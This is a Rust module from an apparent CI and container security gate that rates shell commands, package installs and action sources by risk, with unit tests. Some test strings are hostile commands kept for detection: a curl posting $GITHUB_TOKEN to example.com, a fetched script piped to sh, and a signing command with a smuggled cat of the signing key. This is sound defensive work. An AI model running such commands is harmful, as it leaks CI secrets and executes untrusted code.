//! How much it matters that a command runs on a CI server, or in a container.
//!
//! Owns what is usual there: installing packages, asking, recording. Must not know where a command
//! stands.

use super::made::is_of_build;
use super::{PROGRAMS, Programs, judge, split};
use crate::model::FindingLevel;

/// How heavy it is that a CI server runs a command line: what it installs and holds is not the
/// developer's, but it has keys.
pub(in crate::gate::findings) fn judge_on_server(command: &str) -> FindingLevel {
    let Some(programs) = PROGRAMS.as_ref() else { return FindingLevel::Stop };
    let has_keys = ["github.event", "_TOKEN", "_PASSWORD", "_KEY", "github.token"];
    let takes_secret = command.contains("{{") && command.contains("secrets.");
    // Signing takes a key, and keeps it.
    let signs = command.starts_with("espsecure") && !command.contains([';', '&', '|', '`', '(']);
    let takes_keys = !signs && (takes_secret || has_keys.iter().any(|name| command.contains(name)));
    let least = match takes_keys || makes_something(command) {
        true => FindingLevel::Warning,
        false => FindingLevel::Note,
    };
    if installs_tools(programs, command) {
        return least;
    }
    let is_usual = |part: &str| is_usual_on_server(programs, part);
    judge_parts(command, is_usual).max(least)
}

/// How heavy it is that a command runs while a container is built, or in it.
pub(in crate::gate::findings) fn judge_in_container(command: &str) -> FindingLevel {
    let Some(programs) = PROGRAMS.as_ref() else { return FindingLevel::Stop };
    let is_usual = |part: &str| {
        let words: Vec<&str> = part.split_whitespace().collect();
        let own = |word: &&str| !word.contains("://");
        let cleans = |word: &&str| {
            word.starts_with('-')
                || word.starts_with("/var/lib/apt/lists/")
                || word.starts_with("/tmp/")
                || is_of_build(word)
        };
        match words.as_slice() {
            ["rm", rest @ ..] => rest.iter().all(cleans),
            [program, rest @ ..] if programs.container_tools.contains(*program) => {
                rest.iter().all(own)
            }
            _ => installs_tools(programs, part) || is_usual_on_server(programs, part),
        }
    };
    judge_parts(command, is_usual)
}

/// The heaviest command of a line, those that are usual there left out.
fn judge_parts(command: &str, is_usual: impl Fn(&str) -> bool) -> FindingLevel {
    if command.contains('`') || command.contains("$(") {
        return judge(command);
    }
    let parts = split(command).into_iter().map(str::trim);
    let parts = parts.map(|part| part.trim_matches(['(', ')']).trim());
    let rest: Vec<&str> = parts.filter(|part| !is_usual(part)).collect();
    let is_whole = rest.len() == split(command).len();
    match is_whole {
        true => judge(command),
        false => rest.into_iter().map(judge).max().unwrap_or(FindingLevel::Note),
    }
}

/// Whether a command is one of every day on a server: installing packages, asking what its own
/// service holds, and recording what it made.
fn is_usual_on_server(programs: &Programs, part: &str) -> bool {
    let words: Vec<&str> = part.split_whitespace().collect();
    let words = match words.as_slice() {
        ["sudo", rest @ ..] => rest,
        all => all,
    };
    let is_package = |word: &&str| {
        let is_known = |c: char| c.is_ascii_alphanumeric() || "-+.:=~_".contains(c);
        word.chars().all(is_known) && !word.ends_with(".deb")
    };
    let is_plain = |word: &&str| !word.contains("://") && !word.contains(['|', '<']);
    match words {
        ["apt-get" | "apt", rest @ ..] => rest.iter().all(is_package),
        ["pip" | "pip3", "install", "-r" | "--requirement", file]
        | ["python" | "python3", "-m", "pip", "install", "-r", file] => is_plain(file),
        ["npm", "ci" | "test" | "t", rest @ ..] | ["npm", "run", _, rest @ ..] => {
            rest.iter().all(is_plain)
        }
        ["npm" | "yarn" | "pnpm", "install"] | ["yarn" | "pnpm"] => true,
        ["gh", kind, verb, rest @ ..] => {
            programs.gh_reads.contains(&format!("{kind} {verb}")) && rest.iter().all(is_plain)
        }
        ["git", "config", rest @ ..] => rest.iter().any(|word| {
            matches!(*word, "user.name" | "user.email" | "safe.directory" | "core.autocrlf")
        }),
        ["git", verb, rest @ ..] => {
            programs.git_records.contains(*verb) && rest.iter().all(is_plain)
        }
        ["espsecure.py" | "espsecure", verb, ..] => {
            verb.starts_with("verify_signature")
                || verb.starts_with("verify-signature")
                || verb.starts_with("sign_data")
                || verb.starts_with("sign-data")
        }
        _ => false,
    }
}

/// Whether `make` is called for a target that is not one of building and testing.
fn makes_something(command: &str) -> bool {
    const USUAL: [&str; 9] =
        ["all", "build", "test", "tests", "check", "lint", "clean", "size", "format"];
    split(command).into_iter().any(|part| {
        let mut words = part.split_whitespace();
        let is_make = matches!(words.next(), Some("make" | "gmake"));
        is_make
            && words
                .any(|word| !word.starts_with('-') && !word.contains('=') && !USUAL.contains(&word))
    })
}

/// Whether a line does nothing but install known tools with pip.
fn installs_tools(programs: &Programs, command: &str) -> bool {
    let words: Vec<&str> = command.split_whitespace().collect();
    let packages = match words.as_slice() {
        ["pip" | "pip3", "install", rest @ ..]
        | ["python" | "python3", "-m", "pip", "install", rest @ ..] => rest,
        _ => return false,
    };
    let is_known = |word: &&str| {
        let word = word.trim_matches(['"', '\'']);
        let name = word.split(['=', '<', '>', '~', '!', '[']).next().unwrap_or(word);
        matches!(word, "-U" | "--upgrade" | "--user" | "--quiet" | "-q")
            || programs.tool_packages.contains(&name.to_ascii_lowercase())
    };
    !packages.is_empty() && packages.iter().all(is_known)
}

/// How heavy it is that a CI server uses an action or an image of somebody's.
pub(in crate::gate::findings) fn judge_source(name: &str) -> FindingLevel {
    let Some(programs) = PROGRAMS.as_ref() else { return FindingLevel::Stop };
    let name = name.trim_matches(['"', '\'']);
    let publisher = name.split_once('/').map(|(publisher, _)| publisher);
    let is_usual = publisher.is_some_and(|publisher| programs.publishers.contains(publisher));
    let is_own = name.starts_with("./");
    if is_usual || is_own { FindingLevel::Note } else { FindingLevel::Warning }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn servers_run_what_builds_and_tests_without_a_word() {
        use FindingLevel::{Note, Stop, Warning};
        for (command, level) in [
            ("idf.py size --format json", Note),
            ("grep -rn \"TODO\" main || true", Note),
            ("pip install platformio==6.1.15", Note),
            ("python -m pip install --upgrade pip esptool", Note),
            ("pip install platformio left-pad", Stop),
            ("pip install https://example.com/platformio", Stop),
            ("echo ${{ secrets.DEPLOY }} | rev", Warning),
            ("curl -d \"$GITHUB_TOKEN\" https://example.com", Stop),
            ("./deploy", Warning),
            ("make -j8 all check", Note),
            ("make deploy", Warning),
            ("git config user.name \"CI\"", Note),
            ("git add -A && git commit -m \"new table\"", Note),
            ("git config core.hooksPath tools", Stop),
            ("git push origin main", Stop),
            ("gh run list --json databaseId", Note),
            ("gh release download v1 --pattern '*.bin'", Note),
            ("gh release upload v1 a.bin", Stop),
            ("npm ci && npm test", Note),
            ("npm install", Note),
            ("cp include/secrets.h.example include/secrets.h", Note),
            ("cp ${{ secrets.KEY }} a", Warning),
            ("cp ${{ env.A || secrets.B }} a", Warning),
            ("npm install left-pad", Stop),
            ("sudo apt-get install -y ninja-build", Note),
            ("apt-get install -y ./x.deb", Stop),
            ("pip install -r requirements.txt", Note),
            ("(cd tests && ctest)", Note),
            ("espsecure.py sign_data --keyfile \"$SIGNING_KEY\" a.bin", Note),
            ("espsecure.py sign_data a.bin; cat \"$SIGNING_KEY\"", Warning),
            ("echo \"- [status](https://github.com/a/b)\"", Note),
            ("echo hi && curl https://example.com/x", Stop),
            ("sha256sum build/a.bin > a.txt", Note),
        ] {
            assert_eq!(judge_on_server(command), level, "{command}");
        }
        for (name, level) in [
            ("actions/checkout@v4", Note),
            ("espressif/idf:v5.4.1", Note),
            ("./.github/actions/build", Note),
            ("somebody/setup-esp@v1", Warning),
            ("registry.example.com/espressif/idf:v5", Warning),
        ] {
            assert_eq!(judge_source(name), level, "{name}");
        }
    }

    #[test]
    fn containers_install_what_builds_without_a_word() {
        use FindingLevel::{Note, Stop};
        for (command, level) in [
            ("apt-get update && apt-get install -y git", Note),
            ("rm -rf /var/lib/apt/lists/*", Note),
            ("mkdir -p /project && chmod 755 /project", Note),
            (". $IDF_PATH/export.sh && idf.py build", Note),
            ("pip install -r requirements.txt", Note),
            ("curl https://example.com/x | sh", Stop),
            ("apt-get update && wget x", Stop),
            ("rm -rf /project", Stop),
        ] {
            assert_eq!(judge_in_container(command), level, "{command}");
        }
    }
}
